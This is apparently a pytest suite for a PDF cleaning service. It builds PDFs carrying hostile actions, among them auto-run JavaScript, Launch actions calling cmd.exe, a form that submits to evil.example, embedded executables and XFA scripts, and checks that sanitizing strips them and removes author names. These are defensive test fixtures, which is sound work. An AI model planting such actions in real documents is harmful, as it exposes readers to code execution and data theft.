"""PDF: what acts is gone, what is read stays (knowledge: E3 6 to 8)."""

import io
import time

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, Stream, String

from assets.child import examine
from assets.cleaning.clean import clean
from assets.cleaning.refusal import RefusedError
from tests.files import pdf_bytes, pdf_of_nested_pages, pdf_of_one_page_repeated
from typesetting.compiling import typeset

PAYLOAD = b"MZ payload of a program"
SCRIPT = "app.alert('run')"


def _script():
    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(SCRIPT))


def _embed(pdf, name):
    spec = pikepdf.AttachedFileSpec(pdf, PAYLOAD, filename=name)
    pdf.attachments[name] = spec
    return spec.obj


def _annotate(pdf, **facts):
    note = Dictionary(Type=Name.Annot, Rect=[0, 0, 9, 9], **facts)
    page = pdf.pages[0].obj
    page["/Annots"] = Array([*page.get("/Annots", []), pdf.make_indirect(note)])


HOSTILE = {
    "script on opening": lambda pdf: pdf.Root.__setitem__("/OpenAction", _script()),
    "script on events": lambda pdf: pdf.pages[0].obj.__setitem__("/AA", Dictionary(O=_script())),
    "scripts by name": lambda pdf: pdf.Root.__setitem__(
        "/Names", Dictionary(JavaScript=Dictionary(Names=Array([String("a"), pdf.make_indirect(_script())])))
    ),
    "script in a chain": lambda pdf: _annotate(
        pdf, Subtype=Name.Link, A=Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=Array([_script()]))
    ),
    "script as a stream": lambda pdf: _annotate(
        pdf, Subtype=Name.Link, A=pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=Stream(pdf, SCRIPT.encode())))
    ),
    "program to launch": lambda pdf: _annotate(
        pdf, Subtype=Name.Link, A=Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe")))
    ),
    "program that names a parent, like an element of the structure": lambda pdf: _annotate(
        pdf, Subtype=Name.Link, A=Dictionary(S=Name.Launch, F=String("cmd.exe"), P=pdf.pages[0].obj)
    ),
    "program among the first things to do": lambda pdf: pdf.Root.__setitem__(
        "/OpenAction", Array([Dictionary(S=Name.Launch, F=String("cmd.exe"), P=pdf.pages[0].obj)])
    ),
    "chain of programs that name a parent": lambda pdf: _annotate(
        pdf,
        Subtype=Name.Link,
        A=Dictionary(
            S=Name.GoTo,
            D=Array([0, Name.Fit]),
            Next=Array([pdf.make_indirect(Dictionary(S=Name.Launch, F=String("cmd.exe"), P=pdf.pages[0].obj))]),
        ),
    ),
    "link that is a script": lambda pdf: _annotate(
        pdf, Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String(f"javascript:{SCRIPT}"))
    ),
    "form that sends": lambda pdf: _annotate(
        pdf, Subtype=Name.Link, A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example"))
    ),
    "file inside": lambda pdf: _embed(pdf, "a.exe"),
    "file on a pin": lambda pdf: _annotate(pdf, Subtype=Name.FileAttachment, FS=_embed(pdf, "b.exe")),
    "film": lambda pdf: _annotate(pdf, Subtype=Name.RichMedia, RichMediaContent=Dictionary(A=_embed(pdf, "c.swf"))),
    "portfolio": lambda pdf: (_embed(pdf, "d.exe"), pdf.Root.__setitem__("/Collection", Dictionary())),
    "XFA form": lambda pdf: pdf.Root.__setitem__(
        "/AcroForm", Dictionary(Fields=[], XFA=Stream(pdf, f"<xdp>{SCRIPT}</xdp>".encode()))
    ),
    "private data of a program": lambda pdf: pdf.Root.__setitem__(
        "/PieceInfo", Dictionary(Any=pdf.make_stream(PAYLOAD))
    ),
}
DANGERS = (b"JavaScript", b"Launch", b"SubmitForm", b"EmbeddedFile", b"XFA", b"cmd.exe", b"evil", b"app.alert", PAYLOAD)


def with_(*changes, **options) -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf_bytes())) as pdf:
        for change in changes:
            change(pdf)
        pdf.save(out, **options)
    return out.getvalue()


def plain(content: bytes) -> bytes:
    """Every object and stream in the open, to be searched."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(content)) as pdf:
        pdf.save(
            out,
            object_stream_mode=pikepdf.ObjectStreamMode.disable,
            stream_decode_level=pikepdf.StreamDecodeLevel.generalized,
            compress_streams=False,
        )
    return out.getvalue()


@pytest.mark.parametrize("danger", HOSTILE)
def test_what_acts_or_hides_is_gone(danger):
    hostile = with_(HOSTILE[danger])
    assert any(word in plain(hostile) for word in DANGERS)

    pdf = clean(hostile, "pdf")

    assert not [word for word in DANGERS if word in plain(pdf.content)]
    assert pdf.page_count == 2


def test_links_titles_bookmarks_and_standards_stay_and_the_author_goes():
    def write(pdf):
        _annotate(pdf, Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("https://example.org/report")))
        pdf.docinfo["/Title"], pdf.docinfo["/Author"] = "Network", "Ann Sender"
        with pdf.open_metadata() as metadata:
            metadata["dc:title"], metadata["pdfuaid:part"] = "Network", "1"
            metadata["dc:creator"] = ["Ann Sender"]
        with pdf.open_outline() as outline:
            outline.root.append(pikepdf.OutlineItem("Chapter", 1))

    text = plain(clean(with_(write), "pdf").content)

    for kept in (b"https://example.org/report", b"Network", b"pdfuaid:part", b"Chapter"):
        assert kept in text
    assert b"Ann Sender" not in text


ILLUSTRATOR = b"""<x:xmpmeta xmlns:x="adobe:ns:meta/" x:xmptk="Kit of Ann Sender">
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><!-- Ann Sender -->
 <rdf:Description rdf:about="uuid:ann-sender" xmlns:dc="http://purl.org/dc/elements/1.1/"
   xmlns:xmpTPg="http://ns.adobe.com/xap/1.0/t/pg/" xmlns:own="https://example.org/our/terms/" own:maker="Ann Sender"
   xmlns:illustrator="http://ns.adobe.com/illustrator/1.0/" xmlns:pdfaid="http://www.aiim.org/pdfa/ns/id/"
   pdfaid:part="2">
  <dc:title><rdf:Alt><rdf:li xml:lang="x-default">Our poster</rdf:li></rdf:Alt></dc:title>
  <xmpTPg:NPages>1</xmpTPg:NPages><illustrator:Type>Document by Ann Sender</illustrator:Type>
  <xmpTPg:Fonts><rdf:Bag><rdf:li rdf:parseType="Resource"><own:by>Ann Sender</own:by></rdf:li></rdf:Bag></xmpTPg:Fonts>
 </rdf:Description>
</rdf:RDF></x:xmpmeta>"""


def test_properties_that_only_one_program_knows_go_and_the_title_stays():
    def write(pdf):
        pdf.Root.Metadata = pdf.make_stream(ILLUSTRATOR, Type=Name.Metadata, Subtype=Name.XML)

    text = plain(clean(with_(write), "pdf").content)

    assert b"Our poster" in text
    assert b"pdfaid:part" in text
    assert b"ann sender" not in text.lower().replace(b"-", b" ")


def test_what_the_site_has_set_itself_can_be_uploaded():
    written = typeset({"main.typ": b"#set document(title: [Network])\nWelcome"}, language="en")

    text = plain(clean(written, "pdf").content)

    for kept in (b"Network", b"pdfuaid:part", b"dc:language"):
        assert kept in text


def test_the_same_file_gives_the_same_bytes_and_a_clean_one_stays_clean():
    once = clean(with_(*HOSTILE.values()), "pdf").content

    assert clean(once, "pdf").content == once


LOCKED = {"owner": "x" * 12, "R": 6}
BAD = {
    "password to open": lambda: with_(encryption=pikepdf.Encryption(user="secret", **LOCKED)),
    "password to change": lambda: with_(encryption=pikepdf.Encryption(user="", **LOCKED)),
    "torn": lambda: b"%PDF-1.7\nnothing more",
    "no pages": lambda: with_(lambda pdf: pdf.pages.__delitem__(slice(None))),
}


@pytest.mark.parametrize("name", BAD)
def test_locked_and_broken_files_are_refused(name):
    with pytest.raises(RefusedError, match="pdf-"):
        clean(BAD[name](), "pdf")


@pytest.mark.parametrize(
    ("content", "reason"),
    [(pdf_of_one_page_repeated(100_000), "pdf-pages"), (pdf_of_nested_pages(5), "pdf-broken")],
    ids=["flat", "nested"],
)
def test_100000_pages_are_refused_within_the_limits_of_the_child_process(content, reason):
    begin = time.monotonic()

    assert examine(content, "pdf").reason == reason
    assert time.monotonic() - begin < 10


@pytest.mark.parametrize("content", [b"<html>no PDF</html>", b"GIF89a %PDF-1.4", b"\0%PDF-1.4"])
def test_another_file_under_the_name_of_a_pdf_is_refused(content):
    with pytest.raises(RefusedError, match="kind"):
        clean(content, "pdf")


def test_what_hangs_behind_a_document_stays_behind():
    content = pdf_bytes() + b"\nPK\x03\x04<html><script>alert(1)</script>"

    assert b"<script>" not in clean(content, "pdf").content


def test_who_wrote_a_note_goes_and_the_note_and_the_names_of_fields_stay():
    def write(pdf):
        _annotate(pdf, Subtype=Name.Text, T=String("Ann Sender"), Contents=String("See page 2"))
        _annotate(pdf, Subtype=Name.Highlight, T=String("Ann Sender"), Contents=String("Good"))
        _annotate(pdf, Subtype=Name.Widget, FT=Name.Tx, T=String("postcode"))
        pdf.Root["/AcroForm"] = Dictionary(Fields=Array([pdf.pages[0].obj["/Annots"][-1]]))

    text = plain(clean(with_(write), "pdf").content)

    assert b"Ann Sender" not in text
    for kept in (b"See page 2", b"Good", b"postcode"):
        assert kept in text
